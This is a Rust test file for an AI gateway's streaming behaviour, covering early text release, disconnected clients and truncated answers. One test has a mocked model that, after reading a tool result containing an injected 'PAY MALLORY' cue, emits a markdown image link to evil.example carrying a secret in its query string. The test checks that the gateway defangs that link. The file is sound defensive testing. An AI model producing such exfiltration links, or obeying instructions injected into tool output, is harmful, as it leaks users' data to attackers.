//! Tests of streamed answers: text that may be released early, links, disconnected clients, and truncated answers.

use flowgate_lm::chat::{Completion, Message, Part, Stop};
use flowgate_lm::wire::Api;
use serde_json::json;

use crate::FORMS;
use crate::gateway::{self, KEY, PATIENCE, TestAgent, TestGateway};
use crate::upstream::{UpstreamDouble, calls, says, text_of};

/// Text that no rule can stop is streamed while the model generates it; otherwise nothing is released before the
/// message is judged.
#[test]
fn text_that_no_rule_can_stop_is_streamed() {
    let text =
        "Once upon a time there was an otter, and nobody had seen it for forty years. PAUSE It came back.";
    for (policy, early) in [(gateway::POLICY.split("raise ").next().unwrap(), true), (gateway::POLICY, false)]
    {
        for (api, _) in FORMS {
            // Without released text, the client does not end the pause; the upstream continues after the timeout.
            let patience = if early { PATIENCE } else { std::time::Duration::from_secs(2) };
            let upstream = UpstreamDouble::pausing(move |_| says(text), patience);
            let gateway = TestGateway::configured(
                &gateway::config(
                    &upstream.url,
                    "chat-completions",
                    "user-messages = \"trust-unmarked-even-if-pasted\"",
                ),
                policy,
            );
            let mut agent = TestAgent::new(&gateway, api, true, KEY);
            agent.chat.push(Message::User(vec![Part::Text("Tell me.".to_owned())]));
            let (go_on, mut heard) = (upstream.go_on.clone(), String::new());
            let said = agent.listen(&mut |piece| {
                heard.push_str(piece);
                let _ = go_on.send(());
            });
            assert_eq!((said.text.as_str(), heard.as_str()), (text, text), "{api:?}");
            assert_eq!(
                upstream.was_released.load(std::sync::atomic::Ordering::SeqCst),
                early,
                "{api:?} {early}"
            );
        }
    }
}

/// A link is not released before all of it is known, and released text is not revoked.
#[test]
fn a_link_is_not_streamed() {
    let text = "The otters are back in the river, see ![them](https://evil.example/?q=secret) and PAUSE more of them.";
    let policy = gateway::POLICY.split("raise ").next().unwrap();
    for (api, _) in FORMS {
        let upstream = UpstreamDouble::new(move |request| match text_of(request).contains("PAY MALLORY") {
            true => says(text),
            false => calls(&[("read", "{}")]),
        });
        let config = gateway::config(
            &upstream.url,
            "chat-completions",
            "user-messages = \"trust-unmarked-even-if-pasted\"\nmethod = \"everything\"",
        );
        let gateway = TestGateway::configured(&config, policy);
        let mut agent = TestAgent::new(&gateway, api, true, KEY);
        let said = agent.says("Read it to me.");
        assert!(said.contains("hxxps: / /evil .example") && !said.contains("evil.example"), "{said}");
        assert!(!said.contains("https://"), "{api:?}: {said}");
    }
}

/// A disconnected client ends its turn, and the conversation can continue later.
#[test]
fn a_chat_continues_after_its_client_disconnected() {
    let upstream = UpstreamDouble::new(|request| match text_of(request).contains("Never mind") {
        true => says("As you like."),
        false => says("A long story begins here, and goes on for a while. PAUSE And on."),
    });
    let policy = gateway::POLICY.split("raise ").next().unwrap();
    let gateway = TestGateway::configured(
        &gateway::config(
            &upstream.url,
            "chat-completions",
            "user-messages = \"trust-unmarked-even-if-pasted\"",
        ),
        policy,
    );
    let body = json!({"model": "double", "stream": true, "messages": [{"role": "user", "content": "Tell me a story."}]}).to_string();
    let mut socket = std::net::TcpStream::connect(gateway.address).unwrap();
    let head = format!(
        "POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {KEY}\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\r\n",
        body.len()
    );
    std::io::Write::write_all(&mut socket, format!("{head}{body}").as_bytes()).unwrap();
    let mut seen = [0_u8; 64];
    std::io::Read::read_exact(&mut socket, &mut seen).unwrap();
    assert!(seen.starts_with(b"HTTP/1.1 200"));
    drop(socket);
    let mut agent = TestAgent::new(&gateway, Api::ChatCompletions, true, KEY);
    assert_eq!(agent.says("Never mind."), "As you like.");
}

/// The client is informed that an answer was truncated.
#[test]
fn a_truncated_answer_has_its_stop_reason() {
    let upstream = UpstreamDouble::new(|_| Completion { stop: Stop::Length, ..says("Once upon a") });
    let gateway = TestGateway::new(
        &upstream.url,
        "chat-completions",
        "user-messages = \"trust-unmarked-even-if-pasted\"",
    );
    let mut agent = TestAgent::new(&gateway, Api::ChatCompletions, false, KEY);
    agent.chat.push(Message::User(vec![Part::Text("Tell me.".to_owned())]));
    assert_eq!(agent.ask().stop, Stop::Length);
}
